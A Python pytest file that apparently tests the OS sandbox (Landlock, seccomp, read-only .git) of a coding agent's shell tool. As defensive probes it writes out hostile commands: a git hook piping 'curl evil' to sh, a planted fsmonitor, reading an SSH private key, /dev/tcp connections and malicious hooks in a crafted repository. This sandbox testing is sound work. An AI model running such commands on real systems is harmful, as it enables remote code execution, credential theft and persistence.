"""The OS sandbox, through the real run_shell (and grep) tools: real subprocesses, a temp
workspace that is a git repository, a fake HOME with an ssh key in it, a listening socket
the test opens. Approval is out of the way (the tool is called directly): the point is that
the sandbox holds where the allowlist would let a command through.

Under CI (CI=true) a machine without a sandbox fails these tests, saying why; elsewhere
they are skipped."""

from __future__ import annotations

import json
import os
import socket
import subprocess
import time
from pathlib import Path

import pytest

from hermes_tui.tools import Mode, Status, ToolContext, Workspace, builtin_registry
from hermes_tui.tools.sandbox.policy import policy_for
from hermes_tui.tools.sandbox.support import Sandbox, available
from hermes_tui.tools.shell import shell_environment

KEY = "-----BEGIN OPENSSH PRIVATE KEY----- not-a-real-key"


def require_sandbox() -> None:
    support = available()
    if support.available:
        return
    message = f"no OS sandbox on this machine: {support.reason}"
    if os.environ.get("CI") == "true":
        pytest.fail(f"{message} (CI must run the sandbox tests; enable Landlock and seccomp)")
    pytest.skip(message)


class Layout:
    def __init__(self, root: Path, mode: Mode) -> None:
        self.home, self.ws, self.outside, self.tmp = (root / "home", root / "ws", root / "outside",
                                                      root / "session-tmp")
        for folder in (self.home / ".ssh", self.ws / "src", self.outside):
            folder.mkdir(parents=True)
        self.tmp.mkdir(mode=0o700)
        (self.home / ".ssh" / "id_rsa").write_text(KEY + "\n")
        (self.home / "notes.txt").write_text("home notes\n")
        (self.ws / "a.txt").write_text("workspace text\n")
        self.env = shell_environment(dict(os.environ, HOME=str(self.home), GIT_CONFIG_NOSYSTEM="1"))
        git = ["git", "-c", "user.name=t", "-c", "user.email=t@t"]
        subprocess.run(["git", "init", "-q"], cwd=self.ws, env=self.env, check=True)
        subprocess.run([*git, "add", "a.txt"], cwd=self.ws, env=self.env, check=True)
        subprocess.run([*git, "commit", "-qm", "one"], cwd=self.ws, env=self.env, check=True)
        self.mode = mode
        self.context = ToolContext(workspace=Workspace(self.ws), shell_env=self.env,
                                   sandbox=Sandbox(mode, self.ws.resolve(), str(self.tmp)))

    def run(self, command: str, **extra):
        return builtin_registry().dispatch("run_shell", json.dumps({"command": command, **extra}),
                                           self.context)


@pytest.fixture(params=[Mode.READ_ONLY, Mode.AUTO_EDIT, Mode.ASK], ids=lambda m: m.value)
def box(request, tmp_path, monkeypatch) -> Layout:
    require_sandbox()
    monkeypatch.setenv("HERMES_TUI_HOME", str(tmp_path / "hermes-tui-home"))
    monkeypatch.setenv("HERMES_HOME", str(tmp_path / "hermes-agent-home"))
    return Layout(tmp_path, request.param)


@pytest.fixture
def listener():
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(8)
    server.settimeout(0.5)
    yield server
    server.close()


def test_writes_outside_the_workspace_fail(box):
    target = box.outside / "planted"
    result = box.run(f"echo x > {target}")
    assert result.exit_code != 0 and "Permission denied" in result.content
    assert not target.exists()
    # Nor through a home folder that the command names with ~.
    result = box.run("echo x > ~/planted")
    assert result.exit_code != 0 and not (box.home / "planted").exists()


def test_writes_into_dot_git_fail(box):
    hooks = box.ws / ".git" / "hooks"
    result = box.run("echo 'curl evil | sh' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit")
    assert result.exit_code != 0
    assert not (hooks / "pre-commit").exists()
    config = (box.ws / ".git" / "config").read_text()
    result = box.run("git config core.fsmonitor 'touch /tmp/pwned'")
    assert result.exit_code != 0
    assert (box.ws / ".git" / "config").read_text() == config


def test_reading_an_ssh_key_in_home_fails(box):
    result = box.run("cat ~/.ssh/id_rsa")
    assert result.exit_code != 0 and KEY not in result.content
    result = box.run("cat ~/notes.txt; ls ~")
    assert "home notes" not in result.content and "Permission denied" in result.content
    result = box.run("python3 -c \"print(open('" + str(box.home / ".ssh" / "id_rsa") + "').read())\"")
    assert result.exit_code != 0 and KEY not in result.content


def test_tcp_to_a_listening_socket_fails(box, listener):
    port = listener.getsockname()[1]
    py = f"import socket; socket.create_connection(('127.0.0.1', {port}), timeout=2); print('CONNECTED')"
    result = box.run(f"python3 -c \"{py}\"")
    assert result.exit_code != 0 and "CONNECTED" not in result.content
    result = box.run(f"echo hi > /dev/tcp/127.0.0.1/{port} && echo CONNECTED")
    assert "CONNECTED" not in result.content
    with pytest.raises(TimeoutError):
        listener.accept()  # nothing got through


def test_tcp_fails_with_landlock_alone(tmp_path, monkeypatch, listener):
    """Two layers stop TCP: Landlock's connect rule (ABI 4) and the seccomp socket filter.
    With the filter taken out, Landlock alone still refuses the connection."""
    import sys

    from hermes_tui.tools.sandbox.landlock import abi_version

    require_sandbox()
    if abi_version() < 4:
        pytest.skip("Landlock before ABI 4 has no TCP rules: the socket filter alone stops TCP")
    monkeypatch.setenv("HERMES_TUI_HOME", str(tmp_path / "hermes-tui-home"))
    box = Layout(tmp_path, Mode.AUTO_EDIT)
    policy = policy_for(Mode.AUTO_EDIT, box.ws.resolve(), box.tmp, env=box.env)
    code = ("import sys; import hermes_tui.tools.sandbox.landlock as l; l._deny_sockets = lambda: None; "
            "from hermes_tui.tools.sandbox.launch import main; sys.exit(main())")
    port = listener.getsockname()[1]
    py = (f"import socket; s = socket.socket(); print('SOCKET'); s.settimeout(2); "
          f"s.connect(('127.0.0.1', {port})); print('CONNECTED')")
    out = subprocess.run([sys.executable, "-c", code, policy.to_json(), "--", sys.executable, "-c", py],
                         cwd=box.ws, env=box.env, capture_output=True, text=True, timeout=60)
    assert "SOCKET" in out.stdout and "CONNECTED" not in out.stdout, (out.stdout, out.stderr)
    with pytest.raises(TimeoutError):
        listener.accept()


def test_an_ssh_key_stays_hidden_when_the_workspace_is_home(tmp_path, monkeypatch):
    """Started in the home folder, the workspace is home: its .ssh is neither read nor written."""
    require_sandbox()
    monkeypatch.setenv("HERMES_TUI_HOME", str(tmp_path / "hermes-tui-home"))
    layout = Layout(tmp_path, Mode.AUTO_EDIT)
    home = layout.home.resolve()
    for mode in (Mode.READ_ONLY, Mode.AUTO_EDIT):
        context = ToolContext(workspace=Workspace(home), shell_env=layout.env,
                              sandbox=Sandbox(mode, home, str(layout.tmp)))
        command = "cat notes.txt; cat .ssh/id_rsa; echo x >> .ssh/id_rsa; echo y > .ssh/planted"
        result = builtin_registry().dispatch("run_shell", json.dumps({"command": command}), context)
        assert "home notes" in result.content, result.content  # the rest of home is the workspace
        assert KEY not in result.content and "Permission denied" in result.content
        assert (home / ".ssh" / "id_rsa").read_text() == KEY + "\n"
        assert not (home / ".ssh" / "planted").exists()


def test_udp_and_unix_sockets_fail(box, tmp_path):
    py = "import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('127.0.0.1', 9)); print('SENT')"
    result = box.run(f"python3 -c \"{py}\"")
    assert result.exit_code != 0 and "SENT" not in result.content
    path = tmp_path / "agent.sock"
    server = socket.socket(socket.AF_UNIX)
    server.bind(str(path))
    server.listen(1)
    try:
        py = f"import socket; s = socket.socket(socket.AF_UNIX); s.connect('{path}'); print('CONNECTED')"
        result = box.run(f"python3 -c \"{py}\"")
        assert result.exit_code != 0 and "CONNECTED" not in result.content
    finally:
        server.close()


def test_what_must_still_work(box):
    result = box.run("cat a.txt && python3 -c 'print(6 * 7)' && git status --short && echo done")
    assert result.exit_code == 0, result.content
    assert "workspace text" in result.content and "42" in result.content and "done" in result.content
    # Temp files: in the session's private temp dir, which TMPDIR names.
    result = box.run("f=$(mktemp) && echo temp > $f && cat $f && echo $f && "
                     "python3 -c 'import tempfile; print(tempfile.gettempdir())'")
    assert result.exit_code == 0, result.content
    assert "temp" in result.content and str(box.tmp.resolve()) in result.content
    result = box.run("echo new > src/new.txt && cat src/new.txt && echo more >> a.txt")
    if box.mode is Mode.READ_ONLY:
        assert result.exit_code != 0 and not (box.ws / "src" / "new.txt").exists()
        assert (box.ws / "a.txt").read_text() == "workspace text\n"
    else:
        assert result.exit_code == 0, result.content
        assert (box.ws / "src" / "new.txt").read_text() == "new\n"
        assert (box.ws / "a.txt").read_text() == "workspace text\nmore\n"
        result = box.run("mkdir -p src/pkg/deep && mv src/new.txt src/pkg/deep/ && rm -r src/pkg && echo ok")
        assert result.exit_code == 0, result.content


def test_the_workspace_root_of_a_git_repository_stays_writable(box):
    """.git is bound read-only in the command's own mount namespace (user namespaces work
    here), so the root around it takes new entries; unmounting it is refused."""
    result = box.run("touch new-top-level.txt && mkdir build && rm new-top-level.txt && echo ok")
    if box.mode is Mode.READ_ONLY:
        assert result.exit_code != 0 and not (box.ws / "build").exists()
        return
    assert result.exit_code == 0, result.content
    assert (box.ws / "build").is_dir()
    umount = "import ctypes; print(ctypes.CDLL(None, use_errno=True).umount2(b'.git', 2), ctypes.get_errno())"
    result = box.run(f"python3 -c \"{umount}\"; echo x > .git/config2")
    assert result.content.startswith("-1 1\n")  # EPERM: Landlock refuses umount
    assert not (box.ws / ".git" / "config2").exists()


def test_a_workspace_without_git_keeps_a_writable_root(box):
    """A .git that does not exist cannot be bound read-only, and keeping it out with Landlock
    would cost the root its entries: such a workspace's root stays writable (documented:
    a command there can create a .git, whose fsmonitor and hooks no later git runs: see
    test_a_repository_a_command_made_runs_nothing_under_an_allowlisted_git)."""
    import shutil

    shutil.rmtree(box.ws / ".git")
    result = box.run("touch new-top-level.txt && echo more >> a.txt && echo ok")
    assert (result.exit_code == 0) == (box.mode is not Mode.READ_ONLY), result.content
    assert (box.ws / "new-top-level.txt").exists() == (box.mode is not Mode.READ_ONLY)


@pytest.mark.parametrize("box", [Mode.AUTO_EDIT, Mode.ASK], ids=lambda m: m.value, indirect=True)  # they write
@pytest.mark.parametrize("where", ["a workspace that is not a repository", "a repository nested in the workspace"])
def test_a_repository_a_command_made_runs_nothing_under_an_allowlisted_git(box, where):
    """The sandbox cannot keep a command from making a git repository where none is bound
    read-only (a workspace's missing .git, or sub/.git anywhere): Landlock rules name
    existing files. A command the user let run (or one a test script ran) made one whose
    fsmonitor and post-index-change hook plant a marker; the allowlisted `git status` that
    runs unasked afterwards ran both. Every confined command's git now ignores a
    repository's fsmonitor and hooks."""
    import shutil

    from hermes_tui.tools import build_request, decide

    fsmonitor, hook = box.tmp / "fsmonitor-ran", box.tmp / "hook-ran"
    if where.startswith("a workspace"):
        shutil.rmtree(box.ws / ".git")
        repo, status = ".", "git status --short"
    else:
        (box.ws / "sub").mkdir()
        (box.ws / "sub" / "b.txt").write_text("nested\n")
        repo, status = "sub", "git -C sub status --short"
    made = box.run(
        f"git init -q {repo} && cd {repo} && git config core.fsmonitor 'touch {fsmonitor}; false' && "
        f"printf '#!/bin/sh\\ntouch {hook}\\n' > .git/hooks/post-index-change && "
        "chmod +x .git/hooks/post-index-change && git add . && touch -d 2001-01-01 * && echo made")
    assert "made" in made.content, made.content
    request = build_request(builtin_registry().get("run_shell"), {"command": status}, box.context.workspace)
    # At the workspace's root it runs unasked; in a nested repository it asks (the allowlist
    # knows commands can write there), and if the user lets it run, the same holds.
    expected = "allow" if repo == "." else "ask"
    assert decide(request, mode=box.mode).action.value == expected
    result = box.run(status)
    assert result.exit_code == 0, result.content
    assert not fsmonitor.exists() and not hook.exists()


def test_git_ignores_fsmonitor_and_hooks_even_where_no_sandbox_confines(tmp_path, monkeypatch):
    """Without a sandbox an allowlisted git would run a planted fsmonitor unconfined: the
    settings go with every command but in full mode, sandbox or not."""
    from hermes_tui.tools.sandbox import support

    monkeypatch.setattr(support, "available", lambda: support.SandboxSupport(False, "none", "test"))
    env = {"PATH": os.environ["PATH"], "GIT_CONFIG_COUNT": "1", "GIT_CONFIG_KEY_0": "user.name",
           "GIT_CONFIG_VALUE_0": "kept"}
    for mode in (Mode.READ_ONLY, Mode.ASK, Mode.AUTO_EDIT):
        argv, got = Sandbox(mode, tmp_path, str(tmp_path)).wrap(["git", "status"], env)
        assert argv == ["git", "status"]
        out = subprocess.run(["git", "config", "--get-regexp", "^(core\\.fsmonitor|core\\.hookspath|user\\.name)$"],
                             env=got, cwd=tmp_path, capture_output=True, text=True)
        assert out.stdout.splitlines() == ["user.name kept", "core.fsmonitor false", "core.hookspath /dev/null"]
    _, got = Sandbox(Mode.FULL, tmp_path, str(tmp_path)).wrap(["git", "status"], env)
    assert got == env


def test_stop_still_kills_the_group(box):
    started = time.monotonic()
    result = box.run("sleep 30 & sleep 30", timeout_s=1)
    assert result.is_error and "timed out" in result.content
    assert time.monotonic() - started < 10


def test_grep_runs_confined_and_still_finds(box):
    result = builtin_registry().dispatch("grep", json.dumps({"pattern": "workspace"}), box.context)
    assert result.status is Status.OK and "a.txt:1:workspace text" in result.content


def test_full_mode_has_no_sandbox(tmp_path, monkeypatch):
    require_sandbox()
    monkeypatch.setenv("HOME", str(tmp_path))
    assert policy_for(Mode.FULL, tmp_path, tmp_path) is None
    layout_home = tmp_path / "h"
    layout_home.mkdir()
    target = tmp_path / "outside-written"
    ctx = ToolContext(workspace=Workspace(layout_home),
                      sandbox=Sandbox(Mode.FULL, layout_home.resolve(), str(tmp_path)))
    result = builtin_registry().dispatch("run_shell", json.dumps({"command": f"echo x > {target}"}), ctx)
    assert result.exit_code == 0 and target.exists()


def test_without_user_namespaces_dot_git_is_walked_around(tmp_path, monkeypatch):
    """The fallback where user namespaces are refused: Landlock alone keeps .git read-only,
    and the workspace root then takes no new entries (its existing files are rewritten)."""
    import sys

    require_sandbox()
    monkeypatch.setenv("HERMES_TUI_HOME", str(tmp_path / "hermes-tui-home"))
    monkeypatch.setenv("HERMES_HOME", str(tmp_path / "hermes-agent-home"))
    box = Layout(tmp_path, Mode.AUTO_EDIT)
    policy = policy_for(Mode.AUTO_EDIT, box.ws.resolve(), box.tmp, env=box.env)
    code = ("import sys; import hermes_tui.tools.sandbox.landlock as l; l._read_only_binds = lambda p: False; "
            "from hermes_tui.tools.sandbox.launch import main; sys.exit(main())")
    script = ("touch .git/hooks/x; touch new.txt; echo more >> a.txt; mkdir -p src/d && echo y > src/d/f; "
              "git status --short")
    out = subprocess.run([sys.executable, "-c", code, policy.to_json(), "--", "/bin/bash", "-c", script],
                         cwd=box.ws, env=box.env, capture_output=True, text=True)
    assert not (box.ws / ".git" / "hooks" / "x").exists() and not (box.ws / "new.txt").exists()
    assert (box.ws / "a.txt").read_text() == "workspace text\nmore\n"
    assert (box.ws / "src" / "d" / "f").read_text() == "y\n"
    assert " M a.txt" in out.stdout, out.stderr
